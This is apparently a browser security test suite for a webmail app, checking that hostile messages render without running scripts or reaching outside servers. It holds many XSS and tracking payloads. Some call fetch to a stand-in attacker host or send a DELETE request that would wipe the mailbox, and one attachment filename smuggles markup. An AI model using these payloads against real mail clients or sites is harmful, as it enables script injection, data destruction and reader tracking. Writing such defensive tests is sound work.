import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Browser, Request } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { launchBrowser } from './browser.ts';
import { bePatient } from './patience.ts';
import { openInbox, type Stage } from './stage.ts';

bePatient();

/** A server that a mail tries to reach. It records all requests. */
interface Listener extends AsyncDisposable {
  readonly url: string;
  readonly hits: string[];
}

async function listen(): Promise<Listener> {
  const hits: string[] = [];
  const server = createServer((request, response) => {
    hits.push(`${request.method} ${request.url}`);
    response.setHeader('access-control-allow-origin', '*');
    response.end('alert(1)');
  });
  server.on('connect', (request) => hits.push(`CONNECT ${request.url}`));
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  return {
    url: `http://127.0.0.1:${port}`,
    hits,
    [Symbol.asyncDispose]: () => new Promise((resolve) => server.close(() => resolve())),
  };
}

/** Each tries to take over the page, or to report that the mail was opened. */
function evils(evil: string): Readonly<Record<string, string>> {
  const act = `document.title='owned';parent.document.title='owned';fetch('/api/messages?all=true',{method:'DELETE'});fetch('${evil}/script')`;
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="${act}"><script>${act}</script><image href="${evil}/svg"/></svg>`;
  const encoded = Buffer.from(svg).toString('base64');
  return {
    'a script': `<script>${act}</script><script src="${evil}/src.js"></script><script type="module" src="${evil}/module.js"></script>`,
    'svg onload': svg,
    'img onerror': `<img src="data:x" onerror="${act}"><img src=x onerror=${evil}>`,
    'a remote picture': `<img src="${evil}/pixel.gif"><img srcset="${evil}/set.gif 2x"><picture><source srcset="${evil}/source.gif"><img></picture><input type="image" src="${evil}/input.gif"><video poster="${evil}/poster.gif" src="${evil}/video.mp4" autoplay></video><audio src="${evil}/audio.mp3" autoplay></audio><table background="${evil}/table.gif"><td background="${evil}/td.gif">x</table><body background="${evil}/body.gif">`,
    'a meta refresh': `<meta http-equiv="refresh" content="0;url=${evil}/refresh"><meta http-equiv="refresh" content="0;url=javascript:${act}">`,
    'a base': `<base href="${evil}/"><img src="relative.gif"><a href="relative">relative</a>`,
    'a form': `<form id="f" action="${evil}/form" method="post"><input name="q" value="1" autofocus onfocus="${act};f.submit()"><button formaction="javascript:${act}">Send</button></form>`,
    'a prefetch': `<link rel="prefetch" href="${evil}/prefetch"><link rel="preload" as="image" href="${evil}/preload"><link rel="dns-prefetch" href="${evil}"><link rel="preconnect" href="${evil}"><link rel="prerender" href="${evil}/prerender"><link rel="modulepreload" href="${evil}/modulepreload"><link rel="icon" href="${evil}/icon.ico"><link rel="manifest" href="${evil}/manifest">`,
    'a style sheet': `<link rel="stylesheet" href="${evil}/sheet.css"><style>@import url(${evil}/import.css);@font-face{font-family:e;src:url(${evil}/font.woff)}body{background:url(${evil}/bg.gif);font-family:e}li{list-style-image:url(${evil}/li.gif)}*{cursor:url(${evil}/cursor.cur),auto}</style><ul><li>x</ul><p style="background:url(${evil}/style.gif)">x`,
    'an object, an embed and frames': `<object data="${evil}/object"></object><embed src="${evil}/embed"><iframe src="${evil}/frame"></iframe><iframe srcdoc="<script>${act}</script>"></iframe><frameset><frame src="${evil}/frameset"></frameset><applet code="${evil}/applet"></applet><object type="image/svg+xml" data="data:image/svg+xml;base64,${encoded}"></object>`,
    'an svg picture': `<img src="data:image/svg+xml;base64,${encoded}"><img src="cid:evil@svg"><object data="cid:evil@svg"></object>`,
    'tracking of links': `<a href="https://example.test/" ping="${evil}/ping">a link</a>`,
    'a way out of the markup': `</p></div></iframe></body></html><script>${act}</script><noscript><p title="</noscript><img src=x onerror=${act}>"><math><mi//xlink:href="data:x,<script>${act}</script>">`,
  };
}

let browser: Browser;
beforeAll(async () => {
  browser = await launchBrowser();
});
afterAll(() => browser.close());

describe('an evil mail, looked at in every way,', () => {
  let evil: Listener;
  let stage: Stage;
  beforeAll(async () => {
    evil = await listen();
    stage = await openInbox(browser);
  });
  afterAll(async () => {
    await stage[Symbol.asyncDispose]();
    await evil[Symbol.asyncDispose]();
  });

  test.each(Object.keys(evils('')))('runs nothing and connects to nothing: %s', async (name) => {
    const { page, api, url } = stage;
    const body = evils(evil.url)[name] ?? '';
    const before = (await api.list('')).total;
    const requests: Request[] = [];
    const record = (request: Request) => requests.push(request);
    page.on('request', record);

    const id = await stage.send({
      subject: `Evil ${body}`,
      from: { name: `Evil ${body}`.slice(0, 300), address: 'evil@example.test' },
      text: `${body} javascript:alert(1) ${evil.url}/text`,
      html: `<p>The mail begins</p>${body}<p>The mail ends</p>`,
      attachments: [
        {
          filename: '"><img src=x onerror=alert(1)>.svg',
          contentType: 'image/svg+xml',
          cid: 'evil@svg',
          content: evils(evil.url)['svg onload'] ?? '',
        },
        { filename: 'page.html', contentType: 'text/html', content: body },
        { filename: 'fake.png', contentType: 'image/png', content: body },
      ],
    });
    const mail = page.frameLocator('iframe').getByText('The mail begins');
    await page.locator(`a[href="/messages/${id}"]`).click();
    await page.waitForURL(`**/messages/${id}`);
    await mail.waitFor();
    for (const tab of ['Text', 'Source', 'Headers', 'Attachments', 'Preview']) {
      await page.getByRole('tab', { name: tab }).click();
      await page.getByRole('tabpanel').waitFor();
    }
    await mail.waitFor();
    await page.waitForLoadState('networkidle');
    page.off('request', record);

    expect(evil.hits).toEqual([]);
    expect(await page.title()).toBe('Mailstop');
    // The only change was that the page itself marked the mail as read.
    const changes = requests.map((request) => `${request.method()} ${new URL(request.url()).pathname}`);
    expect(changes.filter((line) => !line.startsWith('GET'))).toEqual([`PATCH /api/messages/${id}`]);
    expect((await api.list('')).total).toBe(before + 1);
    // Requests blocked by the policy count as failed; no request elsewhere got a response.
    const answered = requests.filter((request) => request.failure() === null).map((request) => request.url());
    expect(answered.filter((address) => /^https?:/.test(address) && !address.startsWith(url))).toEqual([]);
  });
});

test('a javascript: link does nothing when it is clicked', async () => {
  await using evil = await listen();
  await using stage = await openInbox(browser);
  const { page } = stage;
  const js = `javascript:fetch('${evil.url}/clicked');parent.document.title='owned'`;
  const id = await stage.send({
    subject: 'Links',
    text: 'Click javascript:alert(1)',
    html: `<a href="${js}">click me</a> <a target="_top" href="${js}">or me</a> <a target="_self" href="${js}">or even me</a>`,
  });
  await page.goto(`${stage.url}/messages/${id}`);
  const mail = page.frameLocator('iframe');
  for (const text of ['click me', 'or me', 'or even me']) await mail.getByText(text, { exact: true }).click();
  await page.getByRole('tab', { name: 'Text' }).click();
  await page.getByRole('tabpanel').getByText('Click javascript:').waitFor();
  expect(await page.getByRole('tabpanel').getByRole('link').count()).toBe(0);
  await page.waitForLoadState('networkidle');
  expect(evil.hits).toEqual([]);
  expect(await page.title()).toBe('Mailstop');
  expect(page.url()).toContain(stage.url);
});

test('a link opens a separate tab without opener or referrer, and no click is reported', async () => {
  await using evil = await listen();
  await using stage = await openInbox(browser);
  const { page } = stage;
  const id = await stage.send({
    subject: 'Links',
    html: `<a ping="${evil.url}/ping" href="${evil.url}/opened">open</a>`,
  });
  await page.goto(`${stage.url}/messages/${id}`);
  const [popup] = await Promise.all([
    page.context().waitForEvent('page'),
    page.frameLocator('iframe').getByText('open', { exact: true }).click(),
  ]);
  await popup.waitForLoadState();
  expect(await popup.evaluate('window.opener')).toBeNull();
  expect(await popup.evaluate('document.referrer')).toBe('');
  expect(evil.hits).toContain('GET /opened');
  expect(evil.hits.filter((hit) => hit.includes('ping'))).toEqual([]);
});

test('the same mails do run scripts and connect on an unprotected page', async () => {
  await using evil = await listen();
  const page = await browser.newPage();
  const { 'a meta refresh': _, ...rest } = evils(evil.url);
  await page.setContent(`<title>Mailstop</title>${Object.values(rest).join('')}`);
  for (const bait of ['/script', '/src.js', '/pixel.gif', '/sheet.css', '/import.css', '/form']) {
    await expect.poll(() => evil.hits.join()).toContain(bait);
  }
  await page.close();
});

test('remote pictures are only loaded when the reader asks for them', async () => {
  await using evil = await listen();
  await using stage = await openInbox(browser);
  const { page } = stage;
  const id = await stage.send({
    subject: 'Newsletter',
    html: `<p>Hello</p><img src="${evil.url}/picture.gif"><script src="${evil.url}/script.js"></script>`,
  });
  await page.goto(`${stage.url}/messages/${id}`);
  await page.frameLocator('iframe').getByText('Hello').waitFor();
  expect(evil.hits).toEqual([]);
  await page.getByRole('button', { name: 'Load them' }).click();
  await page.getByText('Remote images are loaded').waitFor();
  await expect.poll(() => evil.hits).toEqual(['GET /picture.gif']);
});

test('the pieces of a mail opened by themselves run nothing either', async () => {
  await using evil = await listen();
  await using stage = await openInbox(browser);
  const { page, url } = stage;
  const script = `<script>document.title='owned';fetch('${evil.url}/direct')</script>`;
  const id = await stage.send({ subject: 'Evil', html: `<title>mail</title><p>Hello</p>${script}` });
  await page.goto(`${url}/api/messages/${id}/html`);
  await page.getByText('Hello').waitFor();
  await page.waitForLoadState('networkidle');
  expect(await page.title()).not.toBe('owned');
  expect(evil.hits).toEqual([]);
});
